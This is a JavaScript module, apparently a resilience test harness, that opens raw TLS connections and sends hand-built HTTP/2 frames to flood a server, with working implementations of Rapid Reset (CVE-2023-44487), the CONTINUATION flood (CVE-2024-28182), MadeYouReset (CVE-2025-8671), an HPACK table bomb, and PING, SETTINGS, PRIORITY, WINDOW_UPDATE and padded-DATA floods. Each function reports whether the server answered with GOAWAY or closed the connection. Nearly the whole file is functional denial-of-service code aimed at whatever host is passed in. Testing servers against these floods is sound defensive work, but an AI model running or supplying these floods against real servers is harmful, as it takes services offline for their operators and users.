// HTTP/2 floods, in raw frames: each function opens one TLS connection, sends
// what no honest client sends for at most `ms`, and says what the server did.
//
//	const r = await floods.rapidReset({ host, port, ms: 5000 });
//	r.stopped	GOAWAY with an error code, or the connection was closed
//	r.code		of the GOAWAY, or null
//	r.frames	how many frames went before that
//	r.ms		how long it took
import tls from 'node:tls';

export const ENHANCE_YOUR_CALM = 0xb;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const T = { DATA: 0, HEADERS: 1, PRIORITY: 2, RST_STREAM: 3, SETTINGS: 4, PING: 6,
	GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 };
const END_STREAM = 0x1;
const ACK = 0x1;
const END_HEADERS = 0x4;

export function frame(type, flags, stream, payload = Buffer.alloc(0)) {
	const b = Buffer.alloc(9 + payload.length);
	b.writeUIntBE(payload.length, 0, 3);
	b[3] = type;
	b[4] = flags;
	b.writeUInt32BE(stream, 5);
	payload.copy(b, 9);
	return b;
}

const u32 = (n) => { const b = Buffer.alloc(4); b.writeUInt32BE(n >>> 0); return b; };

function integer(n, bits, first) {
	const max = (1 << bits) - 1;
	if (n < max) return Buffer.from([first | n]);
	const out = [first | max];
	for (n -= max; n >= 128; n = Math.floor(n / 128)) out.push(128 | (n % 128));
	out.push(n);
	return Buffer.from(out);
}

// HPACK without Huffman: a literal, put into the table or not; an index.
const text = (s) => { const b = Buffer.from(s, 'latin1'); return Buffer.concat([integer(b.length, 7, 0), b]); };
export const literal = (name, value, index = false) =>
	Buffer.concat([Buffer.from([index ? 0x40 : 0]), text(name), text(value)]);
export const indexed = (i) => integer(i, 7, 0x80);

export function requestBlock(o, extra = []) {
	return Buffer.concat([literal(':method', o.method || 'GET'), literal(':scheme', 'https'),
		literal(':authority', o.authority || `localhost:${o.port}`),
		literal(':path', o.path ?? '/login'), ...extra]);
}

export class Raw {
	constructor(o) { this.o = o; this.got = []; this.rest = Buffer.alloc(0); this.code = null; this.closed = false; this.frames = 0; }

	open() {
		const { host = '127.0.0.1', port, servername = 'localhost', localAddress } = this.o;
		return new Promise((resolve, reject) => {
			const s = tls.connect({ host, port, servername, localAddress,
				rejectUnauthorized: false, ALPNProtocols: ['h2'] });
			this.s = s;
			s.once('secureConnect', () => {
				s.setNoDelay(true);
				s.write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0)]));
				resolve(this);
			});
			s.on('error', (e) => { this.closed = true; reject(e); });
			s.on('close', () => { this.closed = true; });
			s.on('end', () => { this.closed = true; });
			s.on('data', (d) => this.parse(d));
		});
	}

	parse(d) {
		this.rest = Buffer.concat([this.rest, d]);
		while (this.rest.length >= 9) {
			const len = this.rest.readUIntBE(0, 3);
			if (this.rest.length < 9 + len) return;
			const f = { type: this.rest[3], flags: this.rest[4],
				stream: this.rest.readUInt32BE(5), payload: this.rest.subarray(9, 9 + len) };
			this.rest = this.rest.subarray(9 + len);
			if (f.type === T.GOAWAY) this.code = f.payload.readUInt32BE(4);
			if (f.type === T.SETTINGS && !(f.flags & ACK) && !this.s.destroyed) {
				this.s.write(frame(T.SETTINGS, ACK, 0));
			}
			this.onframe?.(f);
		}
	}

	get over() { return this.closed || (this.code !== null && this.code !== 0); }

	// One round of sending, then a breath for what comes back.
	send(buf, frames = 1) {
		this.frames += frames;
		return new Promise((resolve) => {
			if (this.over || this.s.destroyed) { resolve(); return; }
			const t = setTimeout(resolve, 200);
			this.s.write(buf, () => { clearTimeout(t); setImmediate(resolve); });
		});
	}
}

// Sends what round() gives, again and again.
async function flood(o, round, prepare) {
	const c = new Raw(o);
	const start = Date.now();
	await c.open();
	const end = start + (o.ms || 5000);
	await prepare?.(c);
	for (let i = 0; !c.over && Date.now() < end; i++) {
		const [buf, frames] = round(i, c);
		await c.send(buf, frames);
	}
	// The last word may still be on its way.
	for (let i = 0; i < 20 && !c.over; i++) await new Promise((r) => setTimeout(r, 25));
	const r = { stopped: c.over, code: c.code, frames: c.frames, ms: Date.now() - start };
	c.s.destroy();
	return r;
}

const many = (n, f) => Buffer.concat(Array.from({ length: n }, (_, i) => f(i)));
const BATCH = 200;

// CVE-2023-44487: open a stream, reset it, again.
export const rapidReset = (o) => flood(o, (i) => {
	const block = requestBlock(o);
	return [many(BATCH, (k) => {
		const id = (i * BATCH + k) * 2 + 1;
		return Buffer.concat([frame(T.HEADERS, END_HEADERS | END_STREAM, id, block),
			frame(T.RST_STREAM, 0, id, u32(8))]);
	}), 2 * BATCH];
});

// CVE-2024-28182: a header block that never ends.
export const continuation = (o) => flood(o, (i) => [Buffer.concat([
	i === 0 ? frame(T.HEADERS, 0, 1, requestBlock(o)) : Buffer.alloc(0),
	many(BATCH, (k) => frame(T.CONTINUATION, 0, 1, literal(`x${i}-${k}`, 'y'.repeat(100))))]), BATCH]);

export const emptyContinuation = (o) => flood(o, (i) => [Buffer.concat([
	i === 0 ? frame(T.HEADERS, 0, 1, requestBlock(o)) : Buffer.alloc(0),
	many(BATCH, () => frame(T.CONTINUATION, 0, 1))]), BATCH]);

export const ping = (o) => flood(o, () => [many(BATCH, () => frame(T.PING, 0, 0, Buffer.alloc(8))), BATCH]);

export const settings = (o) => flood(o, () => [many(BATCH, () => frame(T.SETTINGS, 0, 0)), BATCH]);

// Also DATA that is nothing but padding.
export const emptyData = (o) => flood(o, (i) => [Buffer.concat([
	i === 0 ? frame(T.HEADERS, END_HEADERS, 1, requestBlock({ ...o, method: 'POST' })) : Buffer.alloc(0),
	many(BATCH, (k) => (k % 2 ? frame(T.DATA, 0, 1) : frame(T.DATA, 0x8, 1, Buffer.from([0]))))]), BATCH]);

export const priority = (o) => flood(o, (i) => [many(BATCH, (k) =>
	frame(T.PRIORITY, 0, (k % 100) * 2 + 1, Buffer.concat([u32(((k + i) % 100) * 2 + 101), Buffer.from([k & 255])]))), BATCH]);

// Increments of 1 on the connection; with zero: true, of 0 on streams.
export const windowUpdate = (o) => flood(o, (i) => {
	if (!o.zero) return [many(BATCH, () => frame(T.WINDOW_UPDATE, 0, 0, u32(1))), BATCH];
	const block = requestBlock(o);
	return [many(BATCH, (k) => {
		const id = (i * BATCH + k) * 2 + 1;
		return Buffer.concat([frame(T.HEADERS, END_HEADERS, id, block),
			frame(T.WINDOW_UPDATE, 0, id, u32(0))]);
	}), 2 * BATCH];
});

// CVE-2025-8671: have the server reset each stream by itself.
export const madeYouReset = (o) => flood(o, (i) => {
	const block = requestBlock(o);
	return [many(BATCH, (k) => {
		const id = (i * BATCH + k) * 2 + 1;
		return Buffer.concat([frame(T.HEADERS, END_HEADERS, id, block),
			frame(T.WINDOW_UPDATE, 0, id, u32(0x7fffffff))]);
	}), 2 * BATCH];
});

// A table entry of nearly 4 KiB, and blocks that name it a byte at a time.
export const hpackBomb = (o) => flood(o, (i) => [frame(T.HEADERS, END_HEADERS | END_STREAM, i * 2 + 1,
	Buffer.concat([requestBlock(o), i === 0 ? literal('x-bomb', 'b'.repeat(3900), true) : Buffer.alloc(0),
		Buffer.alloc(12000, indexed(62))])), 1]);

export const floods = { rapidReset, continuation, emptyContinuation, ping, settings, emptyData,
	priority, windowUpdate, madeYouReset, hpackBomb };
export default floods;
